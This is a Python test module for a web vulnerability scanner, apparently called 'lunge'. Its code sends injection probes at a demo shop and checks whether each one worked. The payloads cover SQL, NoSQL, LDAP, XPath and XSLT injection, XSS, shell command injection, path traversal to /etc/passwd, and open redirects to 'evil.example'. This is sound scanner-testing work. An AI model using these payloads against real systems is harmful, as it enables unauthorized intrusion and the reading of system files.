"""Hand-written attacks on one point of a recorded request, each with the oracle that says whether it
worked. They stand for lunge's checks in the demo's own tests: simple, but real requests to the real
shop, and each oracle demands the effect (an error, a flipped answer, a delay, executed markup,
computed shell output, a read file, an off-site Location), not a mere echo.

Each attack returns the evidence (a short string) when it worked, else None.
"""

from __future__ import annotations

import json
import random
import re
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from lunge.http import Request, parse
from tests.demo.wire import Sent, send

Attack = Callable[[Request, str, tuple[Request, ...]], Awaitable[str | None]]

SQL_ERROR = "sqlite3.OperationalError"
PASSWD = re.compile(r"root:[^:\n]*:0:0:")
DELAY = 1.0
OFF_SITE = "evil.example"


def inject(request: Request, point: str, value: str, *, append: bool = True) -> Request:
    """``request`` with ``point``'s value replaced by ``value`` (appended to the recorded value)."""
    points = parse(request)
    found = points.get(point)
    assert found is not None, f"no point {point} in {request.method} {request.target}"
    return points.replace(point, found.value + value if append else value)


# ---------------------------------------------------------------------- SQL injection
async def sqli_error(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    for suffix in ("'", "\"'"):
        hit = await send(inject(request, point, suffix))
        if SQL_ERROR in hit.text and SQL_ERROR not in base.text:
            return f"{suffix!r} -> {SQL_ERROR}"
    return None


BOOLEAN_PAIRS = (("' AND '1'='1", "' AND '1'='2"), (" AND 1=1", " AND 1=2"), ("' OR '1'='1", "' OR '1'='2"))


async def sqli_boolean(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base, again = await send(request), await send(request)
    if not base.same_as(again):
        return None  # an unstable answer: no differential can be read from it
    for true, false in BOOLEAN_PAIRS:
        yes, no = await send(inject(request, point, true)), await send(inject(request, point, false))
        if yes.same_as(base) and not no.same_as(base):
            return f"{true!r} answers as the original, {false!r} does not"
    return None


TIME_PAYLOADS = ("'||sleep({d})||'", " AND sleep({d})=0", "' AND sleep({d})=0 AND '1'='1")


async def sqli_time(request: Request, point: str, sinks: tuple[Request, ...] = (), *,
                    delay: float = DELAY) -> str | None:
    """Delayed twice, and not with a zero delay."""
    for template in TIME_PAYLOADS:
        slow = await send(inject(request, point, template.format(d=delay)))
        if slow.elapsed < 0.9 * delay:
            continue
        control = await send(inject(request, point, template.format(d=0)))
        again = await send(inject(request, point, template.format(d=delay)))
        if control.elapsed < 0.5 * delay and again.elapsed >= 0.9 * delay:
            return f"{template!r}: {slow.elapsed:.2f}s and {again.elapsed:.2f}s, control {control.elapsed:.2f}s"
    return None


# ---------------------------------------------------------------------- XSS
def _markup(number: int) -> str:
    return f"<svg onload=alert({number})>"


def _xss_payload(number: int) -> str:
    # Closes a single- or double-quoted attribute or script string, and the script element.
    return "'\"></script>" + _markup(number)


def _executes(sent: Sent, number: int) -> bool:
    return sent.html and _markup(number) in sent.text


async def xss_reflected(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    number = random.randrange(10**6, 10**7)
    hit = await send(inject(request, point, _xss_payload(number)))
    return f"{_markup(number)} in the HTML answer" if _executes(hit, number) else None


async def xss_stored(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    number = random.randrange(10**6, 10**7)
    await send(inject(request, point, _xss_payload(number)))
    for sink in sinks:
        if _executes(await send(sink), number):
            return f"{_markup(number)} in {sink.target}"
    return None


# ---------------------------------------------------------------------- the rest
async def cmdi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    for separator in (";", "|", "&&", "\n"):
        hit = await send(inject(request, point, f"{separator}echo lng$(({a}+{b}))end"))
        if f"lng{a + b}end" in hit.text:
            return f"{separator!r}: the shell computed {a}+{b}"
    return None


async def traversal(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    for path in ("../../../../../../../../etc/passwd", "/etc/passwd"):
        hit = await send(inject(request, point, path, append=False))
        if PASSWD.search(hit.text) and not PASSWD.search(base.text):
            return f"{path} read"
    return None


async def redirect(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    for target in (f"//{OFF_SITE}/", f"https://{OFF_SITE}/", f"/\\{OFF_SITE}/"):
        hit = await send(inject(request, point, target, append=False))
        location = hit.response.headers.get("location") or ""
        if 300 <= hit.status < 400 and urlsplit(location.replace("\\", "/")).hostname == OFF_SITE:
            return f"{target} -> Location: {location}"
    return None


# ---------------------------------------------------------------------- status-only SQL injection, query languages
_RUNTIME_ERROR = "ABS(-9223372036854775807-1)"


async def sqli_status(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A lone quote crashes, its escaped twin does not, and an error raised only for FALSE crashes."""
    base = await send(request)
    lone, escaped = await send(inject(request, point, "'")), await send(inject(request, point, "''"))
    if base.status >= 500 or lone.status < 500 or escaped.status >= 500:
        return None
    true = await send(inject(request, point, f"'||(CASE WHEN 1=1 THEN 1 ELSE {_RUNTIME_ERROR} END)||'"))
    false = await send(inject(request, point, f"'||(CASE WHEN 1=2 THEN 1 ELSE {_RUNTIME_ERROR} END)||'"))
    if true.status < 500 <= false.status:
        return f"' -> {lone.status}, '' -> {escaped.status}; TRUE -> {true.status}, FALSE -> {false.status}"
    return None


def _with_operator(request: Request, point: str, operator: dict[str, object]) -> Request | None:
    """The value replaced by an operator: the JSON object itself, or qs brackets for a parameter."""
    if "_JSON_DOC_" in point and "BASE64" not in point and "JWT" not in point:
        return parse(request).replace(point, json.dumps(operator), raw=True)
    if not point.startswith("GET_") or point.count("_") != 2:
        return None
    key = point.split("_")[1]
    ((name, value),) = operator.items()
    pairs = "&".join(f"{key}[{name}][]={v}" for v in value) if isinstance(value, list) else f"{key}[{name}]={value}"
    path, _, query = request.target.partition("?")
    kept = [p for p in query.split("&") if p.partition("=")[0] != key]
    return request.with_target(f"{path}?{'&'.join([*kept, pairs])}")


async def nosqli(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """``$ne`` matches where ``$in`` of the same word does not, and ``$in`` answers as a plain unknown value."""
    true, false = _with_operator(request, point, {"$ne": "zq"}), _with_operator(request, point, {"$in": ["zq"]})
    if true is None or false is None:
        return None
    yes, no, plain = await send(true), await send(false), await send(inject(request, point, "zq"))
    if yes.status < 500 and not yes.same_as(no) and no.same_as(plain):
        return f"$ne -> {yes.status}, $in -> {no.status}"
    return None


async def ldapi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    broken = await send(inject(request, point, ")("))
    if "Bad search filter" in broken.text and "Bad search filter" not in base.text:
        return ")( -> Bad search filter"
    yes = await send(inject(request, point, ")(objectClass=*"))
    no = await send(inject(request, point, ")(objectClass=zq"))
    return "objectClass=* answers as the original, =zq does not" if yes.same_as(base) and not no.same_as(base) else None


async def xpathi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    yes = await send(inject(request, point, "' and '1'='1"))
    no = await send(inject(request, point, "' and '1'='2"))
    if yes.same_as(base) and not no.same_as(base):
        count = await send(inject(request, point, "' and count(/*)=1 and '1'='1"))
        return "' and '1'='1 and count(/*)=1 answer as the original" if count.same_as(base) else None
    return None


async def xslti(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    hit = await send(inject(request, point, f'<xsl:value-of select="{a}*{b}"/>'))
    return f"xsl:value-of computed {a}*{b}" if str(a * b) in hit.text else None


BY_CHECK: dict[str, tuple[Attack, ...]] = {
    "sqli": (sqli_error, sqli_boolean, sqli_time, sqli_status),
    "nosqli": (nosqli,),
    "ldapi": (ldapi,),
    "xpathi": (xpathi,),
    "xslti": (xslti,),
    "xss-reflected": (xss_reflected,),
    "xss-stored": (xss_stored,),
    "cmdi": (cmdi,),
    "path-traversal": (traversal,),
    "open-redirect": (redirect,),
}
SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time,
                                        "status": sqli_status}


from tests.demo import oob_attacks  # noqa: E402  (the server-side request checks' attacks live there)

BY_CHECK.update(oob_attacks.BY_CHECK)
